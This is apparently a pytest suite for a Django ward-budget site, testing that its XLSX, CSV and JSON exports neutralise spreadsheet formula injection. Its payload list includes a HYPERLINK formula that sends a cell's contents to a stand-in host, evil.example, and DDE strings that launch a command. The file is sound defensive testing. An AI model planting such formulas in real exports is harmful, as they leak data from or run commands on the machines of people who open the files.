"""Formula injection in every download (issue #7, "Exports"; OWASP ASVS 5.0 V1.2.10).

Project names, summaries, pillar and ward names that start with = + - @, a tab, a CR,
control characters or the full-width ＝＋－＠ come out of every workbook (year, ward,
10-year cross-year, staff) as text cells equal to what was typed, never as formulas; in
the CSV every such text starts with a ' (OWASP's neutralisation); and no download fails.
Control characters a workbook cannot hold (\\x00-\\x08, \\x0b, \\x0c, \\x0e-\\x1f) are dropped
from workbooks and the CSV; the JSON keeps the text exactly.
"""

import csv
import io
import json

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils import quote_sheetname

from budgets.exports import clean_text
from tests.factories import (
    ProjectFactory,
    StageFigureFactory,
    VisionPillarFactory,
    WardFactory,
    WardYearFactory,
)
from wards.models import Stage

pytestmark = pytest.mark.django_db

# What a spreadsheet may run as a formula (OWASP CSV injection), with its full-width forms:
# Excel in Japanese reads ＝１＋１ typed into a cell as a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NASTY = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?q="&A1,"詳細")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝１＋１",
    "＋１",
    "－１",
    "＠SUM(A1)",
    "\x01=1+1",  # a control character in front of a formula
    "\x08\x0b\x0c\x1f事業",
    "#N/A",
    "#REF!",
    " =1+1",
    "'=1+1",
    '"=1+1"',
    "=" + "あ" * 190,  # with its tag, the 200 characters a name may have
]


def _name(text: str, tag: str) -> str:
    """``text`` with a tag at its end, to find its cell (the start is what is attacked)."""
    return f"{text}《{tag}》"


def _as_read(text: str) -> str:
    """``text`` as a workbook gives it back: without the control characters it cannot hold,
    and with CR read as LF (XML's line-end normalisation)."""
    return clean_text(text).replace("\r\n", "\n").replace("\r", "\n")


def _check_workbook(data: bytes, texts: dict[str, str], where: str) -> int:
    """Every text in ``texts`` (tag → text) is in a text cell equal to it as read (and
    any other cell holding it is text too); a
    formula may only hold a tag inside a quoted reference to a sheet (our own summary
    formulas refer to the ward sheets by name). Returns the text cells checked."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    refs = [quote_sheetname(title) for title in wb.sheetnames]
    found = {tag: 0 for tag in texts}
    for cell in (cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row):
        value = cell.value
        if not isinstance(value, str):
            continue
        if cell.data_type == "f":
            for ref in refs:
                value = value.replace(ref + "!", "")
            assert not any(f"《{tag}》" in value for tag in texts), (where, cell.coordinate)
            continue
        for tag, text in texts.items():
            if f"《{tag}》" in value:
                assert cell.data_type == "s", (where, cell.coordinate, value, cell.data_type)
                # Titles and the hidden sheet list quote a ward's name in a longer text.
                found[tag] += value == _as_read(text)
    missing = [tag for tag, n in found.items() if n == 0]
    assert not missing, (where, missing)
    return sum(found.values())


def _csv_neutralised(value: str) -> str:
    cleaned = clean_text(value)
    return "'" + cleaned if cleaned.startswith(TRIGGERS) else cleaned


@pytest.fixture
def nasty(office):
    """北区 with a project per nasty text (as its name, its summary and its pillar's name)
    and a ward whose own name is a formula, all in the published initial budget."""
    if connection.vendor == "postgresql":
        texts = [t for t in NASTY if "\x00" not in t]
    else:
        texts = NASTY + ["\x00=1+1"]
    names, summaries, pillars = {}, {}, {}
    for n, text in enumerate(texts):
        pillar = VisionPillarFactory(
            ward=office.kita, fiscal_year=office.year, position=10 + n, name=_name(text, f"P{n}")
        )
        project = ProjectFactory(
            ward=office.kita,
            fiscal_year=office.year,
            fund=office.machizukuri,
            pillar=pillar,
            name=_name(text, f"N{n}"),
            summary=_name(text, f"S{n}"),
            position=10 + n,
        )
        StageFigureFactory(project=project, stage=Stage.INITIAL, amount=1000 * (n + 1))
        names[f"N{n}"] = project.name
        summaries[f"S{n}"] = project.summary
        pillars[f"P{n}"] = pillar.name
    ward = WardFactory(slug="evil", name_ja=_name("'=1+1/[区]:*?'s", "W"), position=9)
    WardYearFactory(ward=ward, fiscal_year=office.year)
    ProjectFactory(
        ward=ward, fiscal_year=office.year, fund=office.machizukuri, name=_name("@x", "WN")
    )
    return {
        "names": names,
        "summaries": summaries,
        "pillars": pillars,
        "ward": {"W": ward.name_ja},
        "ward_project": {"WN": _name("@x", "WN")},
    }


def test_year_and_ward_workbooks_hold_the_texts_as_text(client, nasty):
    texts = nasty["names"] | nasty["summaries"] | nasty["ward_project"]
    response = client.get("/2025/export.xlsx")
    assert response.status_code == 200
    checked = _check_workbook(response.content, texts, "year")
    assert checked >= len(texts)
    response = client.get("/2025/kita/export.xlsx")
    assert response.status_code == 200
    _check_workbook(response.content, nasty["names"] | nasty["summaries"], "ward")
    # The formula-like ward name is a text cell on the summary sheet; its sheet's title
    # drops the characters a sheet name cannot have.
    response = client.get("/2025/evil/export.xlsx")
    assert response.status_code == 200
    _check_workbook(response.content, nasty["ward"] | nasty["ward_project"], "evil ward")


def test_staff_workbook_holds_the_texts_as_text(client, nasty, office):
    client.force_login(office.planner)
    texts = nasty["names"] | nasty["summaries"] | nasty["ward_project"]
    response = client.get("/staff/2025/export.xlsx")
    assert response.status_code == 200
    _check_workbook(response.content, texts, "staff")
    client.force_login(office.kita_staff)
    response = client.get("/staff/2025/kita/export.xlsx")
    assert response.status_code == 200
    _check_workbook(response.content, nasty["names"] | nasty["summaries"], "staff kita")


def test_cross_year_workbook_holds_the_texts_as_text(client, nasty):
    response = client.get("/export.xlsx?from=2016&to=2025")
    assert response.status_code == 200
    texts = nasty["names"] | nasty["pillars"] | nasty["ward"] | nasty["ward_project"]
    _check_workbook(response.content, texts, "cross-year")


def test_csv_neutralises_every_formula_like_text(client, nasty):
    response = client.get("/2025/data.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    by_name = {row["name"]: row for row in rows}
    for tag, name in nasty["names"].items():
        expected = _csv_neutralised(name)
        assert expected in by_name, (tag, name)
        row = by_name[expected]
        assert row["summary"] == _csv_neutralised(nasty["summaries"]["S" + tag[1:]])
        assert row["pillar"] == _csv_neutralised(nasty["pillars"]["P" + tag[1:]])
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(TRIGGERS) or value.lstrip("-").isdigit(), (key, value)
    wards = {row["ward"] for row in rows}
    assert _csv_neutralised(nasty["ward"]["W"]) in wards


def test_json_keeps_the_texts_exactly(client, nasty):
    response = client.get("/2025/data.json")
    assert response.status_code == 200
    document = json.loads(b"".join(response.streaming_content))
    names = {p["name"] for p in document["projects"]}
    assert set(nasty["names"].values()) <= names


# Text that a spreadsheet could read as a formula: a trigger, then anything PostgreSQL
# stores (no NUL, no lone surrogates: neither can come in through a form or the admin).
_stored_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    max_size=40,
)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(trigger=st.sampled_from(TRIGGERS + ("\x01", "\x1f", "#", "'")), rest=_stored_text)
def test_any_formula_like_name_is_text_in_xlsx_and_neutralised_in_csv(office, trigger, rest):
    name = _name(trigger + rest, "H")
    project = ProjectFactory(
        ward=office.kita,
        fiscal_year=office.year,
        fund=office.machizukuri,
        name=name,
        summary=name,
        position=99,
    )
    try:
        client = Client()
        response = client.get("/2025/kita/export.xlsx")
        assert response.status_code == 200
        _check_workbook(response.content, {"H": name}, "ward")
        response = client.get("/2025/data.csv")
        assert response.status_code == 200
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        rows = [r for r in csv.DictReader(io.StringIO(body)) if r["project_id"] == str(project.pk)]
        assert len(rows) == 1
        assert rows[0]["name"] == rows[0]["summary"] == _csv_neutralised(name)
        assert not rows[0]["name"].startswith(TRIGGERS)
    finally:
        project.delete()
        from kumamachi import pagecache

        pagecache.store.clear()
